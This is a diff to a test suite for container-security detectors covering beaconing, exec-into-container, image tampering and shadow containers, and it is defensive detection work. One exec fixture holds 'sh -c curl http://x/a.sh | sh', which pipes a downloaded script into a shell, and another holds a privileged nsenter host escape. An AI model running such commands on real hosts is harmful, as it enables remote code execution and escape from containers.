@@ -148,6 +148,14 @@ describe('network detectors', () => {
     const f = run(engine([steady, jitter, session]), 'beaconing');
     expect(f.map((x) => [x.container?.id, x.severity])).toEqual([[steady.container.id, 'medium']]);
     expect(f[0]!.summary).toMatch(/about every 30 s/);
+    // A beacon slower than the polling: one new connection every fourth snapshot.
+    let t = Date.parse('2026-11-23T10:00:00Z');
+    const sparse = Array.from({ length: 17 }, (_, i) => {
+      t += 15_000;
+      return snap('x', new Date(t).toISOString(), [{ remoteAddress: '198.51.100.8', remotePort: 8443, localPort: 50000 + Math.floor(i / 4) }]);
+    });
+    const g = run(engine([container({}, { sockets: sparse })]), 'beaconing');
+    expect(g.map((x) => x.summary)).toEqual([expect.stringMatching(/about every 60 s/)]);
   });
 });
 
@@ -177,6 +185,11 @@ describe('lifecycle and image detectors', () => {
     const x = (execId: string, command: string, o: Record<string, unknown> = {}) => ({ execId, containerId: c.container.id, time: '2026-11-23T10:01:00Z', command, ...o });
     const f = run(engine([c], { execs: [x('a', 'cat /etc/os-release'), x('b', 'bash', { tty: true }), x('c', 'sh -c curl http://x/a.sh | sh'), x('d', 'nsenter -t 1 -m sh', { privileged: true })] }), 'exec-into-container');
     expect(Object.fromEntries(f.map((y) => [y.evidence[0]!.ref, y.severity]))).toEqual({ a: 'low', b: 'medium', c: 'high', d: 'critical' });
+    // A health check repeated every few seconds is one finding with a count.
+    const probes = ['p1', 'p2', 'p3'].map((id, i) => ({ ...x(id, 'curl -fs http://localhost/health'), time: `2026-11-23T10:0${i}:00Z` }));
+    const g = run(engine([c], { execs: probes }), 'exec-into-container');
+    expect(g.map((y) => [y.severity, y.evidence.length])).toEqual([['low', 3]]);
+    expect(g[0]!.summary).toContain('3 times between 2026-11-23T10:00:00Z and 2026-11-23T10:02:00Z');
   });
 
   it('image-tampering: a tag moved under a running container, and build history that installs a miner', () => {
@@ -186,6 +199,16 @@ describe('lifecycle and image detectors', () => {
       { id: 'sha256:' + sha('new'), repoTags: ['shop:latest'], repoDigests: [], created: '', cmd: [], entrypoint: [], exposedPorts: [], env: [], history: [] },
     ] });
     expect(run(ev, 'image-tampering').map((f) => f.severity).sort()).toEqual(['high', 'medium']);
+  });
+});
+
+describe('shadow-container', () => {
+  it('flags kubelet-style names without pod labels anywhere, and unlabelled containers only on a Kubernetes node', () => {
+    const pod = (n: number) => container({ name: `k8s_app_web-${n}_default_uid${n}_0`, labels: { 'io.kubernetes.pod.uid': `uid${n}` } });
+    const fake = container({ name: 'k8s_kube-proxy_kube-proxy-x1_kube-system_abc_0' });
+    const loose = container({ name: 'miner' });
+    expect(run(engine([pod(1), pod(2), fake, loose]), 'shadow-container').map((f) => [f.container?.name, f.severity]).sort()).toEqual([[fake.container.name, 'high'], ['miner', 'medium']]);
+    expect(run(engine([container({ name: 'plain' }), loose]), 'shadow-container')).toEqual([]);
   });
 });
 
